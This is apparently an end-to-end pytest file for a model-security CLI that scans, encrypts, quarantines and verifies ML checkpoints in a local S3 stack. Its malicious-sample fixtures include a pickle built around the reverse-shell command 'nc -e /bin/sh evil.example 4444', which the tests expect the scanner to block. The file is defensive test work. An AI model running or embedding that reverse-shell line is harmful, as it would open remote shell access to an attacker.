"""Bulk jobs on the local stack: the template's state machine on moto's interpreter (server mode), the
real JobWorker handler behind the local poller, driven through the `modelshield jobs` CLI by STS roles."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import boto3
import pytest
from awscrt.checksums import crc64nvme
from modelshield.cli import main as cli
from modelshield.crypto.s3 import ENVELOPE_MAGIC
from modelshield.local.samples import benign_checkpoint, malicious_pickle
from modelshield.local.stack import LocalStack

pytestmark = pytest.mark.e2e

REPO = "team-model-repo"
STATUS_KEYS = {
    "job_id",
    "operation",
    "source",
    "status",
    "counts",
    "bytes",
    "started_at",
    "finished_at",
    "report_uri",
}


@pytest.fixture
def stack(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[LocalStack]:
    saved = dict(os.environ)
    monkeypatch.setenv("MODELSHIELD_STATE_DIR", str(tmp_path / "state"))
    with LocalStack(quiet=True) as running:
        s3 = running.client("s3")
        s3.create_bucket(Bucket=REPO)
        s3.put_bucket_versioning(Bucket=REPO, VersioningConfiguration={"Status": "Enabled"})
        yield running
    os.environ.clear()
    os.environ.update(saved)
    boto3.DEFAULT_SESSION = None


def become(stack: LocalStack, role: str, session: str) -> None:
    creds = stack.client("sts").assume_role(
        RoleArn=f"arn:aws:iam::123456789012:role/{role}", RoleSessionName=session
    )["Credentials"]
    os.environ["AWS_ACCESS_KEY_ID"] = creds["AccessKeyId"]
    os.environ["AWS_SECRET_ACCESS_KEY"] = creds["SecretAccessKey"]
    os.environ["AWS_SESSION_TOKEN"] = creds["SessionToken"]
    boto3.DEFAULT_SESSION = None


def run_json(capsys: pytest.CaptureFixture[str], args: list[str]) -> tuple[int, Any]:
    capsys.readouterr()
    code = cli(args)
    out = capsys.readouterr().out
    return code, json.loads(out) if out.strip().startswith("{") else out


def dashboard_json(stack: LocalStack) -> Any:
    with urllib.request.urlopen(f"{stack.outputs['dashboard_url']}/metrics.json", timeout=30) as response:
        return json.loads(response.read())


def versions(s3: Any, key: str) -> list[dict[str, Any]]:
    return [
        v for v in s3.list_object_versions(Bucket=REPO, Prefix=key).get("Versions", []) if v["Key"] == key
    ]


MODELS = {
    "models/vision/resnet.pt": benign_checkpoint("resnet"),
    "models/vision/v2/resnet.pt": benign_checkpoint("resnet-v2"),
    "models/nlp/deep/nested/bert.pt": benign_checkpoint("bert"),
}
MALICIOUS = {
    "models/nlp/tokenizer.pkl": malicious_pickle(),
    "models/contrib/helper.bin": malicious_pickle("nc -e /bin/sh evil.example 4444"),
}
OTHERS = {"models/empty.pt": b"", "models/README.md": b"# our models\n"}


def test_encrypt_a_repository_in_place_then_verify_it_and_catch_one_flipped_byte(
    stack: LocalStack, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    s3 = stack.client("s3")
    for key, body in {**MODELS, **MALICIOUS, **OTHERS}.items():
        s3.put_object(Bucket=REPO, Key=key, Body=body)
    source = f"s3://{REPO}/models/"

    # Given a consumer, When it starts an encrypt job, Then it is refused (exit 2, one line)
    become(stack, "InferenceService", "svc-1")
    code, _ = run_json(capsys, ["jobs", "create", "--source", source, "--operation", "encrypt"])
    assert code == 2

    # Given a scan job over the repository first: the dashboard counts the plaintext models it saw
    become(stack, "ModelShieldSecurityEngineer", "alice")
    code, scanned = run_json(
        capsys, ["jobs", "create", "--source", source, "--operation", "scan", "--wait", "--format", "json"]
    )
    assert code == 1 and scanned["counts"]["succeeded"] == 3  # the two malicious ones are failures
    seen = dashboard_json(stack)["plaintext"]["repositories"]
    models = {**MODELS, **MALICIOUS}
    assert (seen["objects"], seen["bytes"]) == (len(models), sum(len(b) for b in models.values()))
    assert seen["sources"] == [
        {"source": source, "job_id": scanned["job_id"], "objects": len(models), "bytes": seen["bytes"]}
    ]

    # When a Security Engineer runs the encrypt job and waits
    code, job = run_json(
        capsys, ["jobs", "create", "--source", source, "--operation", "encrypt", "--wait", "--format", "json"]
    )
    # Then it ends with exact counts and exit 1 (quarantined items), in the contract's JSON shape
    assert code == 1 and set(job) == STATUS_KEYS
    assert (
        job["status"] == "COMPLETED_WITH_FAILURES"
        and job["operation"] == "encrypt"
        and job["source"] == source
    )
    assert job["counts"] == {"total": 7, "succeeded": 3, "failed": 2, "skipped": 2, "pending": 0}
    assert job["bytes"]["total"] == sum(len(b) for b in {**MODELS, **MALICIOUS, **OTHERS}.values())
    # And every allowed model's only version is an ESDK v2 message with its metadata and the full-object
    # CRC64NVME of its bytes (what S3 checked on the upload): no plaintext remains
    for key, body in MODELS.items():
        assert len(versions(s3, key)) == 1
        head = s3.head_object(Bucket=REPO, Key=key, ChecksumMode="ENABLED")
        assert head["Metadata"]["modelshield-state"] == "ENCRYPTED"
        assert head["Metadata"]["modelshield-sha256"] == hashlib.sha256(body).hexdigest()
        assert head["Metadata"]["modelshield-job-id"] == job["job_id"]
        ciphertext = s3.get_object(Bucket=REPO, Key=key)["Body"].read()
        assert ciphertext[:3] == ENVELOPE_MAGIC
        assert (
            head["ChecksumCRC64NVME"] == base64.b64encode(crc64nvme(ciphertext).to_bytes(8, "big")).decode()
        )
    # And the dashboard's repository tile drops to zero: the newest job over the source left no plaintext
    assert dashboard_json(stack)["plaintext"]["repositories"] == {"objects": 0, "bytes": 0, "sources": []}
    # And no malicious model is readable in plaintext anywhere
    for key, body in MALICIOUS.items():
        assert versions(s3, key) == []
        vault_keys = [
            o["Key"] for o in s3.list_objects_v2(Bucket=stack.outputs["vault_bucket"]).get("Contents", [])
        ]
        assert f"quarantine/repositories/{REPO}/{key}" in vault_keys
        for vault_key in vault_keys:
            assert (
                body not in s3.get_object(Bucket=stack.outputs["vault_bucket"], Key=vault_key)["Body"].read()
            )
    # And `jobs errors` names each failed item with a reason
    code, errors = run_json(capsys, ["jobs", "errors", job["job_id"], "--format", "json"])
    assert code == 0 and errors["job_id"] == job["job_id"]
    assert sorted(e["key"] for e in errors["errors"]) == sorted(MALICIOUS)
    assert all(
        set(e) == {"bucket", "key", "version_id", "code", "message", "action"} for e in errors["errors"]
    )
    assert all(e["code"] == "BLOCKED" and "MS-CODE-EXEC" in e["message"] for e in errors["errors"])
    code, csv_text = run_json(capsys, ["jobs", "errors", job["job_id"], "--format", "csv"])
    assert (
        csv_text.splitlines()[0] == "bucket,key,version_id,code,message,action"
        and len(csv_text.splitlines()) == 3
    )

    # When the same job runs again, Then nothing changes and it exits 0
    before = {k: [v["VersionId"] for v in versions(s3, k)] for k in {**MODELS, **OTHERS}}
    code, again = run_json(
        capsys, ["jobs", "create", "--source", source, "--operation", "encrypt", "--wait", "--format", "json"]
    )
    assert code == 0 and again["status"] == "SUCCEEDED"
    assert again["counts"] == {"total": 5, "succeeded": 0, "failed": 0, "skipped": 5, "pending": 0}
    assert {k: [v["VersionId"] for v in versions(s3, k)] for k in {**MODELS, **OTHERS}} == before

    # And a consumer can get decryption access to a repository artifact: request, approve, decrypt
    artifact = f"{REPO}/models/vision/resnet.pt"
    become(stack, "InferenceService", "svc-1")
    code, requested = run_json(
        capsys, ["access", "request", artifact, "--reason", "serve", "--hours", "1", "--format", "json"]
    )
    request_id = requested["requests"][0]["request_id"]
    become(stack, "ModelShieldSecurityEngineer", "alice")
    assert cli(["access", "approve", request_id]) == 0
    become(stack, "InferenceService", "svc-1")
    out = tmp_path / "resnet.pt"
    assert cli(["access", "decrypt", request_id, "-o", str(out)]) == 0
    assert out.read_bytes() == MODELS["models/vision/resnet.pt"]

    # When a verify job runs, Then nothing fails
    become(stack, "ModelShieldSecurityEngineer", "alice")
    code, verified = run_json(
        capsys, ["jobs", "create", "--source", source, "--operation", "verify", "--wait", "--format", "json"]
    )
    assert code == 0 and verified["counts"]["succeeded"] == 3 and verified["counts"]["failed"] == 0
    # Given one byte of one ciphertext flipped, When verify runs again, Then exactly that object is reported
    key = "models/nlp/deep/nested/bert.pt"
    head = s3.head_object(Bucket=REPO, Key=key)
    data = bytearray(s3.get_object(Bucket=REPO, Key=key)["Body"].read())
    data[-40] ^= 0x80
    s3.put_object(Bucket=REPO, Key=key, Body=bytes(data), Metadata=head["Metadata"])
    code, verified = run_json(
        capsys, ["jobs", "create", "--source", source, "--operation", "verify", "--wait", "--format", "json"]
    )
    assert code == 1 and verified["counts"]["failed"] == 1 and verified["counts"]["succeeded"] == 2
    code, errors = run_json(capsys, ["jobs", "errors", verified["job_id"], "--format", "json"])
    assert [(e["key"], e["code"]) for e in errors["errors"]] == [(key, "INTEGRITY")]

    # And `jobs list` and `jobs status` show them
    code, listed = run_json(capsys, ["jobs", "list", "--format", "json"])
    assert code == 0 and len(listed["jobs"]) == 5  # scan, encrypt, encrypt again, verify twice
    code, status = run_json(capsys, ["jobs", "status", verified["job_id"], "--format", "json"])
    assert code == 0 and status == verified


def test_a_job_over_more_than_a_thousand_keys_in_nested_prefixes_counts_exactly(
    stack: LocalStack, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given 1,150 configs and 50 models spread over nested prefixes (past S3's 1,000-key listing page)
    from concurrent.futures import ThreadPoolExecutor

    s3 = stack.client("s3")
    model = benign_checkpoint("small")
    objects = [(f"big/team-{n % 7}/run-{n % 13}/config-{n}.json", b'{"lr": 0.1}') for n in range(1150)]
    objects += [(f"big/team-{n % 7}/run-{n % 13}/deep/model-{n}.pt", model) for n in range(50)]
    with ThreadPoolExecutor(8) as pool:
        list(pool.map(lambda o: s3.put_object(Bucket=REPO, Key=o[0], Body=o[1]), objects))

    # When a scan job runs over the prefix
    code, job = run_json(
        capsys,
        [
            "jobs",
            "create",
            "--source",
            f"s3://{REPO}/big/",
            "--operation",
            "scan",
            "--max-concurrency",
            "8",
            "--wait",
            "--format",
            "json",
        ],
    )
    # Then every object is accounted for exactly
    assert code == 0, job
    assert job["counts"] == {"total": 1200, "succeeded": 50, "failed": 0, "skipped": 1150, "pending": 0}
